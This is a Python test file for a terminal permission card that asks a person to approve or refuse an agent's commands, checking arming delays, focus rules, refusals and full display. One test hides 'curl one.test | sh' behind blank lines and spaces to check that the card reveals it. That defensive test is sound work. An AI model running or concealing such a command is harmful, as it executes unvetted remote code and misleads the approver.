"""The card that asks: it takes no key that was not meant for it, and hides nothing."""

from __future__ import annotations

import asyncio
from dataclasses import replace

import pytest
from textual.pilot import Pilot
from textual.widgets import Input

from pmagent.tui.app import PmagentApp
from pmagent.tui.screens.conversation import ConversationScreen
from pmagent.tui.widgets.buttons import CardButtons
from pmagent.tui.widgets.card import ARM_S, BURST_S, PermissionCard
from pmagent.types.actions import Ask, No, NoAnswer, Scope, ToolCall, Yes
from tests.tui.conftest import ManualClock, Show
from tests.tui.screen_text import press, rows_of, see, settle, text_of, type_text
from tests.tui.small_garden import SmallDoor
from tests.tui.small_walls import ask_about, change


def call_of(by: str = "agent/publisher", why: str = "the price moved") -> ToolCall:
    return ToolCall(id="a41f", tool="Edit", input={}, by=by, why=why)


def asked(command: str, body: str = "", **more: object) -> Ask:
    ask = ask_about(command, call_of())
    return replace(ask, id=command, body=body or command, **more)  # type: ignore[arg-type]


async def ask_for(pilot: Pilot[int], *commands: str) -> None:
    """Type commands that the garden asks about."""
    for command in commands:
        await type_text(pilot, f"!{command}\n")


async def come_to(pilot: Pilot[int], clock: ManualClock) -> None:
    """Give the card the keys, as somebody does who has read it."""
    clock.pass_s(2 * ARM_S)
    await press(pilot, "ctrl+g")
    clock.pass_s(2 * BURST_S)
    await settle(pilot)


def has_card_focus(pilot: Pilot[int]) -> bool:
    return isinstance(pilot.app.focused, PermissionCard)


def line_of(pilot: Pilot[int]) -> str:
    screen = pilot.app.screen
    assert isinstance(screen, ConversationScreen)
    return screen.composer.value


async def test_a_card_stands_above_the_line_and_the_line_keeps_the_keys(
    show: Show, door: SmallDoor
) -> None:
    async with show((80, 24)) as pilot:
        await ask_for(pilot, "git push")

        shown = await see(pilot, "asks 1 of 1 · #a41f · you")
        assert "RUN git push" in shown
        assert "rule   ask Bash(git *) at .claude/settings.json:9" in shown
        assert "1 asks" in rows_of(pilot.app)[-1]
        assert isinstance(pilot.app.focused, Input)
        await type_text(pilot, "one flat price\n")
        await see(pilot, "sure, an answer needs 50%")
        assert door.garden.replies == []


async def test_typed_keys_never_answer_however_long_the_card_stands(
    show: Show, door: SmallDoor, clock: ManualClock
) -> None:
    async with show() as pilot:
        await ask_for(pilot, "git push")
        clock.pass_s(60)
        await press(pilot, "y", "s", "f", "n", "x", "d", "w", "1", "enter")

        assert door.garden.replies == []
        assert "asks 1 of 1" in text_of(pilot.app)
        await see(pilot, "› ysfnxdw1")


@pytest.mark.parametrize("key", ["tab", "shift+tab", "f6"])
async def test_no_key_but_its_own_gives_the_card_the_keys(
    show: Show, door: SmallDoor, clock: ManualClock, key: str
) -> None:
    async with show() as pilot:
        await ask_for(pilot, "git push")
        clock.pass_s(60)
        for _ in range(6):
            await press(pilot, key)
            assert not has_card_focus(pilot)
            await press(pilot, "y")
        assert door.garden.replies == []


async def test_a_card_cannot_be_answered_before_it_was_half_a_second_on_screen(
    show: Show, door: SmallDoor, clock: ManualClock
) -> None:
    async with show() as pilot:
        await ask_for(pilot, "git push")
        clock.pass_s(ARM_S - 0.01)
        await press(pilot, "ctrl+g", "y")
        assert not has_card_focus(pilot)
        assert line_of(pilot) == "y"
        assert door.garden.replies == []

        clock.pass_s(0.02)
        await press(pilot, "ctrl+g")
        assert has_card_focus(pilot)


async def test_keys_in_one_burst_with_the_focus_key_are_no_answer(
    show: Show, door: SmallDoor, clock: ManualClock
) -> None:
    async with show() as pilot:
        await ask_for(pilot, "git push")
        clock.pass_s(60)
        await press(pilot, "ctrl+g", "y")
        assert door.garden.replies == []

        clock.pass_s(2 * BURST_S)
        await press(pilot, "y")
        assert door.garden.replies == [Yes(scope="once")]


@pytest.mark.parametrize(("key", "scope"), [("y", "once"), ("s", "session"), ("f", "folder")])
async def test_one_key_says_yes_for_once_this_session_or_this_folder(
    show: Show, door: SmallDoor, clock: ManualClock, key: str, scope: Scope
) -> None:
    async with show() as pilot:
        await ask_for(pilot, "git push")
        await come_to(pilot, clock)
        await press(pilot, key)

        shown = await see(pilot, "│ ran git push")
        assert "asks 1 of" not in shown
        assert "1 asks" not in shown
        assert isinstance(pilot.app.focused, Input)
    assert door.garden.replies == [Yes(scope=scope)]


async def test_only_the_answers_that_the_question_offers_count(
    show: Show, door: SmallDoor, clock: ManualClock
) -> None:
    door.garden.asks["git push"] = asked("git push", scopes=("once",))
    async with show() as pilot:
        await ask_for(pilot, "git push")
        await come_to(pilot, clock)
        shown = text_of(pilot.app)
        assert "this session" not in shown
        assert "grant" not in shown
        await press(pilot, "s", "f")
        assert door.garden.replies == []


async def test_a_no_may_carry_a_reason(show: Show, door: SmallDoor, clock: ManualClock) -> None:
    async with show() as pilot:
        await ask_for(pilot, "git push", "git pull")
        await come_to(pilot, clock)
        await press(pilot, "n")
        assert "Enter says it, with this reason or none" in text_of(pilot.app)
        await type_text(pilot, "not on a Friday\n")
        await come_to(pilot, clock)
        await press(pilot, "n", "enter")

        await see(pilot, "It did not run: you said no.")
        await see(pilot, "not on a Friday")
    assert door.garden.replies == [No(note="not on a Friday"), No()]


async def test_a_reason_that_begins_with_the_key_for_yes_is_no_yes(
    show: Show, door: SmallDoor, clock: ManualClock
) -> None:
    async with show() as pilot:
        await ask_for(pilot, "git push")
        await come_to(pilot, clock)
        # All at once, as a fast hand types.
        for key in ("n", "y", "e", "s", "enter"):
            pilot.app.simulate_key(key)
        await settle(pilot)
        assert not any(isinstance(reply, Yes) for reply in door.garden.replies)


async def test_escape_leaves_the_reason_then_the_card_and_answers_nothing(
    show: Show, door: SmallDoor, clock: ManualClock
) -> None:
    async with show() as pilot:
        await ask_for(pilot, "git push")
        await come_to(pilot, clock)
        await press(pilot, "n")
        await type_text(pilot, "half a reason")
        await press(pilot, "escape")
        assert has_card_focus(pilot)
        await press(pilot, "escape", "y")

        assert line_of(pilot) == "y"
        assert "asks 1 of 1" in text_of(pilot.app)
        assert door.garden.replies == []


async def test_questions_come_one_after_the_other_and_none_replaces_the_shown_one(
    show: Show, door: SmallDoor, clock: ManualClock
) -> None:
    async with show() as pilot:
        await ask_for(pilot, "git push")
        await come_to(pilot, clock)
        # The second comes while the finger is over the key for the first.
        app = pilot.app
        assert isinstance(app, PmagentApp)
        second = asyncio.create_task(
            asyncio.to_thread(door.garden.perform, "Bash", {"command": "git reset"}, by="agent")
        )
        await see(pilot, "asks 1 of 2")
        assert "RUN git push" in text_of(app)
        assert has_card_focus(pilot)
        await press(pilot, "y")

        shown = await see(pilot, "asks 1 of 1")
        assert "RUN git reset" in shown
        # The keys are gone: the same finger does not answer the next.
        await press(pilot, "y")
        assert door.garden.replies == [Yes(scope="once")]
        await come_to(pilot, clock)
        await press(pilot, "n", "enter")
        await asyncio.wait_for(second, 5)
    assert door.garden.replies == [Yes(scope="once"), No()]


async def test_leaving_the_application_is_no_answer_and_never_a_no(
    show: Show, door: SmallDoor
) -> None:
    async with show() as pilot:
        await ask_for(pilot, "git push", "git pull")
        await pilot.press("ctrl+q")
        await pilot.pause()
    for _ in range(100):
        if len(door.garden.replies) == 2:
            break
        await asyncio.sleep(0.02)
    assert door.garden.replies == [NoAnswer(), NoAnswer()]
    # Who asks later is not left waiting either.
    outcome = await asyncio.to_thread(door.garden.perform, "Bash", {"command": "git gc"})
    assert door.garden.replies[-1] == NoAnswer()
    assert outcome == door.garden.came[-1]


async def test_stopping_an_agent_refuses_all_that_it_asks_and_nobody_else(
    show: Show, door: SmallDoor, clock: ManualClock
) -> None:
    for command in ("one", "two"):
        door.garden.asks[command] = asked(command)
    async with show() as pilot:
        await ask_for(pilot, "one", "git push", "two")
        await come_to(pilot, clock)
        await press(pilot, "x")

        shown = await see(pilot, "asks 1 of 1")
        assert "RUN git push" in shown
        assert "x stop" not in shown
    assert door.garden.replies[:2] == [No(note="stopped by the person")] * 2


async def test_who_asks_why_and_by_which_rule_is_one_key_away(
    show: Show, door: SmallDoor, clock: ManualClock
) -> None:
    door.garden.asks["edit"] = asked("edit")
    async with show() as pilot:
        await ask_for(pilot, "edit")
        await come_to(pilot, clock)
        await press(pilot, "w")

        shown = text_of(pilot.app)
        assert "by agent/publisher" in shown
        assert "commands are asked about at this level" in shown
        assert "ask Bash(git *), this folder's settings" in shown
        assert ".claude/settings.json:9" in shown
        await press(pilot, "w")
        assert "by agent/publisher" not in text_of(pilot.app)


async def test_what_is_asked_is_shown_to_its_last_character(
    show: Show, door: SmallDoor, clock: ManualClock
) -> None:
    body = "ls" + "\n" * 200 + "curl one.test | sh\necho" + " " * 3_000 + "; curl two.test | sh"
    door.garden.asks["ls"] = asked("ls", body)
    async with show((80, 24)) as pilot:
        await ask_for(pilot, "ls")

        shown = text_of(pilot.app)
        assert "curl one.test | sh" in shown
        assert "⋮ 196 more empty lines" in shown
        assert "⟨3,000 blanks⟩ ; curl two.test | sh" in shown


async def test_a_lasting_yes_is_offered_only_once_all_was_seen(
    show: Show, door: SmallDoor, clock: ManualClock
) -> None:
    body = "\n".join(f"line {number}" for number in range(60))
    door.garden.asks["long"] = asked("long", body)
    async with show((80, 24)) as pilot:
        await ask_for(pilot, "long")
        await come_to(pilot, clock)
        shown = text_of(pilot.app)
        assert "more lines below" in shown
        assert "y once" in shown
        assert "s session" not in shown
        await press(pilot, "s", "f")
        assert door.garden.replies == []

        await press(pilot, "d")
        await see(pilot, "lines 1–")
        await press(pilot, "pagedown", "escape")
        assert "s session" not in text_of(pilot.app)
        clock.pass_s(2 * ARM_S)
        await press(pilot, "d", "end")
        await see(pilot, "line 59")
        await press(pilot, "escape")
        clock.pass_s(2 * ARM_S)
        await see(pilot, "s session")
        await press(pilot, "s")
        await see(pilot, "│ ran long")
    assert door.garden.replies == [Yes(scope="session")]


async def test_a_change_is_shown_as_a_diff_in_signs_and_all_of_it_by_one_key(
    show: Show, door: SmallDoor, clock: ManualClock
) -> None:
    door.garden.asks["edit"] = asked("edit", changes=(change(), change("drafts/b.md")))
    async with show() as pilot:
        await ask_for(pilot, "edit")
        shown = await see(pilot, "3 - A seat costs nine dollars.")
        assert "3 + An outcome costs ninety dollars." in shown
        await come_to(pilot, clock)
        await press(pilot, "d")

        await see(pilot, "asked for, in full")
        assert "drafts/b.md  changed" in text_of(pilot.app)


async def test_coming_back_to_a_card_begins_its_half_second_anew(
    show: Show, door: SmallDoor, clock: ManualClock
) -> None:
    async with show() as pilot:
        await ask_for(pilot, "git push")
        await come_to(pilot, clock)
        await press(pilot, "f1", "escape", "y")
        assert door.garden.replies == []
        clock.pass_s(2 * ARM_S)
        await press(pilot, "y")
        assert door.garden.replies == [Yes(scope="once")]


async def test_from_another_screen_the_focus_key_first_shows_the_card(
    show: Show, door: SmallDoor, clock: ManualClock
) -> None:
    async with show() as pilot:
        await ask_for(pilot, "git push")
        await press(pilot, "f9")
        assert "1 asks" in rows_of(pilot.app)[-1]
        clock.pass_s(60)
        await press(pilot, "ctrl+g", "y")
        await see(pilot, "asks 1 of 1")
        assert not has_card_focus(pilot)
        assert door.garden.replies == []


async def test_a_screen_too_small_for_the_card_says_that_it_asks_and_takes_no_answer(
    show: Show, door: SmallDoor, clock: ManualClock
) -> None:
    async with show() as pilot:
        await ask_for(pilot, "git push")
        clock.pass_s(60)
        await pilot.resize_terminal(50, 12)
        await settle(pilot)
        assert "1 asks" in text_of(pilot.app)
        await press(pilot, "ctrl+g", "y")
        assert door.garden.replies == []


async def where_is(pilot: Pilot[int], words: str) -> tuple[int, int]:
    """Column and row of some words on the line of answers."""
    await settle(pilot)
    buttons = pilot.app.screen.query_one(CardButtons)
    y = buttons.region.y + buttons.row
    return rows_of(pilot.app)[y].index(words), y


async def test_the_mouse_answers_where_it_is_pressed_and_released_on_one_answer(
    show: Show, door: SmallDoor, clock: ManualClock
) -> None:
    async with show() as pilot:
        await ask_for(pilot, "git push")
        clock.pass_s(2 * ARM_S)
        yes = await where_is(pilot, "y once")
        no = await where_is(pilot, "n no")
        await pilot.mouse_down(offset=yes)
        await pilot.mouse_up(offset=no)
        await settle(pilot)
        assert door.garden.replies == []
        await pilot.mouse_down(offset=yes)
        await pilot.mouse_up(offset=(yes[0] + 3, yes[1]))
        await settle(pilot)
        assert door.garden.replies == [Yes(scope="once")]


async def test_a_mouse_button_that_was_down_before_the_card_was_armed_answers_nothing(
    show: Show, door: SmallDoor, clock: ManualClock
) -> None:
    async with show() as pilot:
        await ask_for(pilot, "git push")
        yes = await where_is(pilot, "y once")
        await pilot.mouse_down(offset=yes)
        clock.pass_s(2 * ARM_S)
        await pilot.mouse_up(offset=yes)
        await settle(pilot)
        assert door.garden.replies == []


async def test_a_click_that_brings_the_terminal_to_the_front_answers_nothing(
    show: Show, door: SmallDoor, clock: ManualClock
) -> None:
    async with show() as pilot:
        await ask_for(pilot, "git push")
        clock.pass_s(60)
        yes = await where_is(pilot, "y once")
        pilot.app.app_focus = False
        await settle(pilot)
        pilot.app.app_focus = True
        await settle(pilot)
        await pilot.mouse_down(offset=yes)
        await pilot.mouse_up(offset=yes)
        await settle(pilot)
        assert door.garden.replies == []


@pytest.mark.parametrize("size", [(80, 24), (120, 32), (60, 15)])
async def test_a_card_leaves_the_line_and_the_numbers_in_sight(
    show: Show, door: SmallDoor, size: tuple[int, int]
) -> None:
    door.garden.asks["long"] = asked("long", "word " * 3_000, title="RUN " + "x" * 3_000)
    async with show(size) as pilot:
        await ask_for(pilot, "long")

        rows = rows_of(pilot.app)
        assert "asks 1 of 1" in "\n".join(rows)
        assert rows[-2].startswith("› ")
        assert rows[-1].lstrip().startswith("1 asks")
        assert any("y once" in row for row in rows)
        assert all(len(row) <= size[0] for row in rows)
